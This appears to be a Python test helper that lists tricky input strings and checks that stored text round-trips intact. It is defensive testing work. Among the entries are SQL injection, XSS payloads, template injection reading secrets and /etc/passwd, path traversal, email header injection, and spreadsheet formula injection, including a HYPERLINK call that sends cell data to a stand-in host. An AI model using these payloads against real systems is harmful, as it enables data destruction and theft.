"""Texts that have broken somebody's product before, of every kind. Our own list.

Each is written between two tokens: wherever the first turns up later, the second must follow, and the text between them be what
was written.
"""

from __future__ import annotations

import re

SCRIPT = "<script>window.naughty=1</script>"
KINDS: dict[str, str] = {
    # writing systems
    "right to left": "مرحبا بك في شركتنا",
    "mixed directions": "abc אבג 123 دهو xyz",
    "direction overrides": "a\u202eevil\u202c \u2066b\u2069 \u200fc",
    "zalgo": "Z̸̢͝a̶̛͎l̵̡̀g̷̰̈́o̴͔͌ " + "\u0301" * 40,
    "combining and composed": "é e\u0301 ﬁ Å Å",
    "no spaces": "ข้อความภาษาไทยไม่มีช่องว่าง 漢字かな交じり文",
    "wide and small forms": "Ａｌｉｃｅ ＝１＋１ ｜ ａ＠ｂ",
    "turkish and sharp s": "İIıi ẞßSS",
    "emoji": "😀🎉🇹🇳👍🏽",
    "joined emoji": "👨‍👩‍👧‍👦 🏳️‍🌈 ❤️‍🔥",
    "beyond the first plane": "𝕏𝔘𐍈𓀀",
    "private use and unassigned": "\ue000\uf8ff \U0010fffd \ufffe\uffff",
    "invisible": "a\u200bb\u200cc\u200dd\u2060e\u00adf\u00a0g\u3000h",
    "byte order mark": "\ufeffname\ufeff",
    # databases
    "sql": "'; DROP TABLE customers_customer; --",
    "sql or": '" OR 1=1 -- \\',
    "like pattern": "%_%\\%__",
    "postgresql json": "{\"a\": '\\u0000'} ::jsonb $$ $1 %s %(x)s ?",
    # browsers
    "script": SCRIPT,
    "out of an attribute": '"\' onmouseover=window.naughty=1 x="',
    "image": "<img src=x onerror=window.naughty=1>",
    "svg": "<svg/onload=window.naughty=1>",
    "address": "javascript:window.naughty=1",
    "out of a script": "</script><script>window.naughty=1</script>",
    "out of a text area": "</textarea></title></style>" + SCRIPT,
    "comment and cdata": "<!-- <![CDATA[ " + SCRIPT + " ]]> -->",
    "entities": "&lt;script&gt;&#60;b&#62; &amp;amp; &nbsp;",
    "style": "</style><style>*{display:none}</style>",
    # templates
    "django": "{{ settings.SECRET_KEY }}{% load x %}{% include '/etc/passwd' %}{# c #}",
    "format": "{0.__class__} {self} %(name)s %s %d ${HOME} #{7*7} <%= 7*7 %>",
    "placeholder": "{first_name} {{first_name}} {unknown} {",
    # tables and files
    "formula": '=HYPERLINK("http://x.example/?"&A1)',
    "formula signs": "+1 -1 @SUM(A1) =cmd|' /C calc'!A0",
    "separators": 'a;b,c|d"e""f\'g',
    "path": "../../../../etc/passwd",
    "windows path": "..\\..\\con.txt NUL COM1",
    # white space and control
    "lines": "one\ntwo\n\nthree",
    "carriage returns": "one\r\ntwo\rthree",
    "tab": "one\ttwo",
    "other line ends": "a\u2028b\u2029c\u0085d\u000be\u000cf",
    "controls": "a\x01b\x07c\x1bd\x7fe",
    "header": "x\r\nBcc: everybody@example.com\r\n\r\nHello",
    "nothing between": "",
    "spaces": "   a    b   ",
    # what no database takes
    "nul": "a\x00b",
    "lone surrogate": "a\ud800b",
    # look-alikes
    "none": "null undefined None NaN nil N/A -",
    "numbers": "1e309 -0 0x1F 1_000 ١٢٣ 1,5 ∞",
    "true": "true false yes no on off",
    "date": "0000-00-00 9999-12-31T23:59:60Z",
    "json": '{"__proto__": {"x": 1}, "constructor": [1, 2]}',
}
VERY_LONG = "very long"  # a kind beside those: only the slow tests write it
IMPOSSIBLE = ("nul", "lone surrogate")
WORST = ("direction overrides", "zalgo", "joined emoji", "sql", "out of a text area", "django", "formula", "nul", "lone surrogate", "carriage returns")  # fmt: skip
_START = re.compile(r"Qs(\d{2})Qa")
_TOKEN = re.compile(r"Qs(\d{2})Qa(.*?)Qs\1Qz", re.DOTALL)
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")
_TEXTS = KINDS | {VERY_LONG: "x" * 100_000}
_NAMES = list(_TEXTS)


def written(kind: str) -> str:
    """The text of this kind between its tokens."""
    number = _NAMES.index(kind)
    return f"Qs{number:02d}Qa{_TEXTS[kind]}Qs{number:02d}Qz"


def damaged(held: str) -> list[str]:
    """The kinds that stand in this stored text and are not what was written; also where the end is cut off.

    No damage: line ends of another sort (a form sends CR LF), control characters left out (they are no text), and line ends that
    became spaces in a field of one line.
    """
    whole = _TOKEN.findall(held)
    changed = [_NAMES[int(n)] for n, text in whole if not _is_same(text, _TEXTS[_NAMES[int(n)]])]
    begun = _START.findall(_TOKEN.sub("", held))
    return changed + [f"{_NAMES[int(n)]} (cut)" for n in begun]


def _is_same(held: str, wrote: str) -> bool:
    return any(form(held) == form(wrote) for form in (_with_lines, _without_controls, str.split))


def _with_lines(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _without_controls(text: str) -> str:
    return _CONTROL.sub("", text)
